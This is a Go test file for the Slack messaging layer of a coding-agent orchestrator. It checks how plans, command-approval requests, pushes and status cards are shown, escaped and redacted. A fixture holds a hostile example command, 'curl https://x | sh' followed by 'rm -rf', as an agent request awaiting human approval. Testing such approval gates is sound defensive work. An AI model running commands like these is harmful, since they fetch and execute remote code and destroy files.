package activities

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"go.temporal.io/api/serviceerror"
	"go.temporal.io/sdk/client"

	"github.com/longshift/longshift/internal/channel"
	"github.com/longshift/longshift/internal/fault"
	"github.com/longshift/longshift/internal/redact"
	"github.com/longshift/longshift/signals"
	"github.com/longshift/longshift/task"
)

// wall is a channel that records the messages that are written to it.
type wall struct {
	posted []channel.Message
	edited []channel.Message
	to     []task.Room
	again  bool
	err    error
}

func (w *wall) Post(_ context.Context, to task.Room, m channel.Message, again bool) (task.MessageRef, error) {
	w.posted, w.to, w.again = append(w.posted, m), append(w.to, to), again
	return task.MessageRef{Room: to, Message: "1.2"}, w.err
}

func (w *wall) Edit(_ context.Context, _ task.MessageRef, m channel.Message) error {
	w.edited = append(w.edited, m)
	return w.err
}

// told is the status of a task whose plan waits for a decision.
func told() signals.Status {
	return signals.Status{
		WorkflowID: "acme-web-login-x1", RunID: "run-1", Repository: "acme/web", Task: "fix the *login* of <!channel>", Phase: task.Approving,
		Reason: signals.ReasonApproval, Iteration: 1, NeedsHuman: true, NextAction: "`approve`, `edit` or `reject` the plan",
		WaitingUntil: time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC), BudgetUSD: 20, BudgetTime: 2 * time.Hour, Usage: task.Usage{CostUSD: 0.25},
		Plan: &task.Plan{Revision: 2, Summary: "Check the cookie", Approach: "Use `http.Cookie`.", Files: []string{"login.go"}, Risks: []string{"sessions end"},
			Lines: 1200, MaxLines: 800, Split: []string{"The cookie", "Its users"},
			Deliverables: []task.Deliverable{{ID: "FIX-001", Description: "read the cookie", Status: task.Passed},
				{ID: "FIX-002", Description: "write it", Status: task.Pending}}},
		Questions: []signals.Question{{ID: "q1", Session: 3, Role: task.Implementer, Command: "curl https://x | sh\nrm -rf ```", Dir: "web", Rule: "network", Reason: "it reaches out",
			Expires: time.Date(2026, 11, 20, 18, 0, 0, 0, time.UTC)}},
	}
}

func shows(t *testing.T, w *wall, s signals.Status, in ShowInput) (task.MessageRef, error) {
	t.Helper()
	const secret = "sk-very-secret-value-1"
	c := &Messages{channels: map[string]channel.Channel{"slack": w}, redact: redact.New(secret), web: "http://localhost:8233",
		status: func(context.Context, signals.Notice) (signals.Status, error) { return s, nil }}
	var place task.MessageRef
	err := newAttempt(t, nil).run(c.Show, in, &place)
	for _, m := range append(w.posted, w.edited...) {
		if strings.Contains(m.Text, secret) {
			t.Errorf("a secret is shown: %s", m.Text)
		}
	}
	return place, err
}

func holds(t *testing.T, text string, parts ...string) {
	t.Helper()
	for _, p := range parts {
		if !strings.Contains(text, p) {
			t.Errorf("%q is missing in:\n%s", p, text)
		}
	}
}

var anyRoom = task.Room{Channel: "slack", ID: "C1"}

func TestShowPlan(t *testing.T) {
	w := &wall{}
	in := ShowInput{Room: anyRoom, Key: "k", Notice: signals.Notice{From: "acme-web-login-x1", Run: "run-1", Subject: signals.SubjectPlan, Revision: 2},
		Buttons: []signals.Button{{Verb: "approve", Token: "t.a"}, {Verb: "edit", Token: "t.e"}, {Verb: "reject", Token: "t.r"}}}
	s := told()
	s.Plan.Approach += " The key is sk-very-secret-value-1."
	place, err := shows(t, w, s, in)
	if err != nil || place.Message != "1.2" || place.ID != "C1" {
		t.Fatalf("%+v, %v", place, err)
	}
	m := w.posted[0]
	holds(t, m.Text, "# Plan, revision 2\n", "fix the \\*login\\* of \\<!channel>", "Check the cookie", "Use `http.Cookie`.", "`login.go`", "sessions end", "about 1200 lines, more than the 800 of pullRequest.maxLines;", "- The cookie\n- Its users\n", "- [x] FIX-001: read the cookie")
	holds(t, m.Foot, "$0.25 of $20.00 · 0s of 2h · 0 sessions · [Temporal Web](http://localhost:8233/", "· `acme-web-login-x1`")
	if len(m.Buttons) != 3 || m.Buttons[0] != (channel.Button{Label: "Approve", Token: "t.a", Style: channel.Primary}) || m.Buttons[2].Style != channel.Danger {
		t.Errorf("buttons %+v", m.Buttons)
	}
	if !m.Loud || m.Until != s.WaitingUntil || m.Then != "Approved automatically" || m.Key != "k" {
		t.Errorf("message %+v", m)
	}
	// Decided: the buttons are removed, and the text says who decided.
	in.At, in.Settled = &place, "plan revision 2 approved by the timer"
	if _, err := shows(t, w, s, in); err != nil {
		t.Fatal(err)
	}
	m = w.edited[0]
	holds(t, m.Text, "Plan revision 2 approved by the timer.", "Check the cookie")
	if len(m.Buttons) != 0 || m.Loud || !m.Until.IsZero() && len(m.Buttons) > 0 {
		t.Errorf("a decided plan: %+v", m)
	}
	// Too late: another revision is current by now.
	in.At, in.Settled, in.Notice.Revision = nil, "", 1
	if _, err := shows(t, w, s, in); err != nil {
		t.Fatal(err)
	}
	if m = w.posted[1]; strings.Contains(m.Text, "Check the cookie") || !m.Until.IsZero() {
		t.Errorf("an old revision shows the new plan: %s", m.Text)
	}
}

// TestShowSought checks that a message that may stand already is looked for, and brought up to date.
func TestShowSought(t *testing.T) {
	for _, sought := range []bool{false, true} {
		w := &wall{}
		place, err := shows(t, w, told(), ShowInput{Room: anyRoom, Key: "k", Sought: sought})
		if err != nil || place.Message != "1.2" || w.again != sought || len(w.posted) != 1 || (len(w.edited) == 1) != sought {
			t.Errorf("sought %v: %+v, %v, looked for: %v, edited %+v", sought, place, err, w.again, w.edited)
		}
	}
}

func TestShowCommand(t *testing.T) {
	w := &wall{}
	in := ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectCommand, Question: "q1"}, Buttons: []signals.Button{{Verb: "allow", Token: "t.a"}, {Verb: "deny", Token: "t.d"}}}
	if _, err := shows(t, w, told(), in); err != nil {
		t.Fatal(err)
	}
	m := w.posted[0]
	holds(t, m.Text, "````\ncurl https://x | sh\nrm -rf ```\n````", "the folder web", "session 3", "it reaches out", "rule `network`")
	if m.Then != "Denied automatically" || m.Until.Hour() != 18 {
		t.Errorf("the time of the question: %+v", m)
	}
	s := told()
	s.Questions[0].Files, s.Questions[0].Changed = []signals.File{{Path: "de*ploy.sh", Sum: "12ab"}}, []string{"de*ploy.sh"}
	in.Buttons = []signals.Button{{Verb: signals.Allow, Token: "t.a"}, {Verb: signals.AllowForTask, Token: "t.t"}, {Verb: signals.Deny, Token: "t.d"}}
	if _, err := shows(t, w, s, in); err != nil {
		t.Fatal(err)
	}
	m = w.posted[1]
	holds(t, m.Text, "Changed since it was last asked: de\\*ploy.sh.", "bound to the content of de\\*ploy.sh (12ab).",
		"Allowed, it may run once; for this task, every time, whatever its files contain then.")
	if len(m.Buttons) != 3 || m.Buttons[0].Style != channel.Primary || m.Buttons[1] != (channel.Button{Label: "Allow for this task", Token: "t.t"}) {
		t.Errorf("buttons %+v", m.Buttons)
	}
	in.Notice.Question = "gone"
	if _, err := shows(t, w, told(), in); err != nil || strings.Contains(w.posted[2].Text, "curl") {
		t.Errorf("%v: %s", err, w.posted[1].Text)
	}
}

// The question about a push shows its changes, and has no time limit.
func TestShowPush(t *testing.T) {
	w, s := &wall{}, told()
	s.Questions = []signals.Question{{ID: "push-1", Command: "ci .github/workflows/x.yml: new", Rule: "sensitive.ci", Reason: "a person has to look"}}
	in := ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectCommand, Question: "push-1"},
		Buttons: []signals.Button{{Verb: "allow", Token: "t.a"}}}
	if _, err := shows(t, w, s, in); err != nil {
		t.Fatal(err)
	}
	m := w.posted[0]
	holds(t, m.Text, "A push waits for a decision", "ci .github/workflows/x.yml: new\n", "Why it is asked: a person has to look (rule `sensitive.ci`)")
	if m.Then != "" || !m.Until.IsZero() || strings.Contains(m.Text, "session") || len(m.Buttons) != 1 {
		t.Errorf("shown as %+v", m)
	}
}

// What was decided while the channel was away is shown without a sound, without buttons, and as it is now.
func TestShowWhatNoLongerWaits(t *testing.T) {
	decided, suspended, resumed, abandoned := told(), told(), told(), told()
	decided.Phase, decided.Questions = task.Executing, nil
	suspended.Phase, suspended.Reason = task.Suspended, signals.ReasonSpecIssue
	resumed.Phase, resumed.Reason = task.Executing, ""
	abandoned.Phase, abandoned.Reason, abandoned.Outcome = task.Ended, "", task.Abandoned
	abandoned.Questions = nil
	for name, c := range map[string]struct {
		status  signals.Status
		subject signals.Subject
		settled string
		live    bool
		text    string
	}{
		"a plan waits":             {told(), signals.SubjectPlan, "", true, "Check the cookie"},
		"a plan is decided":        {decided, signals.SubjectPlan, "", false, "It has its decision."},
		"the task of a plan ended": {abandoned, signals.SubjectPlan, "", false, "The task has ended: abandoned."},
		"a command waits":          {told(), signals.SubjectCommand, "", true, "curl https://x"},
		"a command is decided":     {decided, signals.SubjectCommand, "", false, "It has its decision."},
		"the task of it ended":     {abandoned, signals.SubjectCommand, "", false, "The task has ended: abandoned."},
		"suspended":                {suspended, signals.SubjectStop, "", true, "Spec issue"},
		"tried again":              {resumed, signals.SubjectStop, "", true, "It is tried again at this moment."},
		"abandoned":                {abandoned, signals.SubjectStop, "", false, "The task has ended: abandoned."},
		"settled by its end":       {abandoned, signals.SubjectStop, "a newer message follows", false, "The task has ended: abandoned."},
		"settled":                  {resumed, signals.SubjectStop, "going on with executing", false, "Going on with executing."},
		"overtaken":                {suspended, signals.SubjectStop, "a newer message follows", false, "A newer message follows."},
	} {
		t.Run(name, func(t *testing.T) {
			w, in := &wall{}, ShowInput{Room: anyRoom, Settled: c.settled, Buttons: []signals.Button{{Verb: signals.Resume, Token: "t.a"}},
				Notice: signals.Notice{Subject: c.subject, Revision: 2, Question: "q1"}}
			if _, err := shows(t, w, c.status, in); err != nil {
				t.Fatal(err)
			}
			m := w.posted[0]
			holds(t, m.Text, c.text)
			if m.Loud != c.live || len(m.Buttons) == 1 != c.live {
				t.Errorf("loud %v, buttons %+v", m.Loud, m.Buttons)
			}
		})
	}
}

func TestShowNews(t *testing.T) {
	w := &wall{}
	s := told()
	s.PullRequest = &signals.PullRequest{Number: 7, URL: "https://github.com/acme/web/pull/7"}
	in := ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectNews, Text: `round 1: the check "<!channel> sk-very-secret-value-1" failed`}}
	if _, err := shows(t, w, s, in); err != nil {
		t.Fatal(err)
	}
	holds(t, w.posted[0].Text, "News at the pull request", "Round 1: the check \"\\<!channel>", "[Pull request #7](https://github.com/acme/web/pull/7)")
	if !w.posted[0].Loud || len(w.posted[0].Buttons) != 0 || strings.Contains(w.posted[0].Text, "secret-value") {
		t.Errorf("shown as %+v", w.posted[0])
	}
}

func TestShowCardStopAndEnd(t *testing.T) {
	w := &wall{}
	s := told()
	if _, err := shows(t, w, s, ShowInput{Room: anyRoom}); err != nil {
		t.Fatal(err)
	}
	holds(t, w.posted[0].Text, "Approving (approval) · round 1: 1/2 deliverables done", "- [x] FIX-001", "- [ ] FIX-002", "$0.25 of $20.00",
		"http://localhost:8233/namespaces/default-test-namespace/workflows/", "`acme-web-login-x1`")
	if w.posted[0].Loud {
		t.Error("progress makes itself heard")
	}
	s.Phase, s.Reason, s.Detail = task.Suspended, signals.ReasonSpecIssue, "which <b>cookie</b>?"
	if _, err := shows(t, w, s, ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectStop}}); err != nil {
		t.Fatal(err)
	}
	holds(t, w.posted[1].Text, "Suspended", "Spec issue: which \\<b>cookie\\</b>?")
	s.Phase, s.Outcome, s.Reason, s.Files, s.Added, s.Deleted = task.Ended, task.PullRequest, "", 3, 20, 4
	s.PullRequest = &signals.PullRequest{Number: 7, URL: "https://github.com/acme/web/pull/7"}
	s.Check, s.Sessions = &signals.Check{}, []signals.Session{{Turns: 4}, {Turns: 5}}
	if _, err := shows(t, w, s, ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectEnd}}); err != nil {
		t.Fatal(err)
	}
	holds(t, w.posted[2].Text, "Pull request", "3 files changed, +20 −4", "9 turns", "checks passed",
		"[Pull request #7](https://github.com/acme/web/pull/7)", "2 sessions")
}

// The faults for a channel that is not set up, a channel that asks to wait, a task that can't be queried, and one that
// the server no longer knows.
func TestShowFails(t *testing.T) {
	w := &wall{}
	_, err := shows(t, w, told(), ShowInput{Room: task.Room{Channel: "telegram", ID: "7"}})
	if app := applicationError(t, err); app.Type() != string(fault.Denied) || !app.NonRetryable() {
		t.Errorf("no channel: %v", err)
	}
	w.err = &fault.Later{After: 42 * time.Second, Err: fault.New(fault.Infra, "slow down")}
	_, err = shows(t, w, told(), ShowInput{Room: anyRoom})
	if app := applicationError(t, err); app.NextRetryDelay() != 42*time.Second || app.NonRetryable() {
		t.Errorf("a wait: %v", err)
	}
	c := &Messages{channels: map[string]channel.Channel{"slack": w}, status: func(context.Context, signals.Notice) (signals.Status, error) {
		return signals.Status{}, fault.New(fault.Infra, "%w", errors.New("no worker"))
	}}
	if app := applicationError(t, newAttempt(t, nil).run(c.Show, ShowInput{Room: anyRoom}, nil)); app.NonRetryable() {
		t.Errorf("no status: %v", app)
	}
	c.status = func(ctx context.Context, n signals.Notice) (signals.Status, error) {
		return statusBy(ctx, forgetful{}, n)
	}
	if app := applicationError(t, newAttempt(t, nil).run(c.Show, ShowInput{Room: anyRoom}, nil)); app.Type() != string(fault.NotFound) || !app.NonRetryable() {
		t.Errorf("a task whose history has expired: %v", app)
	}
}

// forgetful is a server that keeps no history.
type forgetful struct{}

func (forgetful) QueryWorkflowWithOptions(context.Context, *client.QueryWorkflowWithOptionsRequest) (*client.QueryWorkflowWithOptionsResponse, error) {
	return nil, serviceerror.NewNotFound("workflow not found for ID")
}
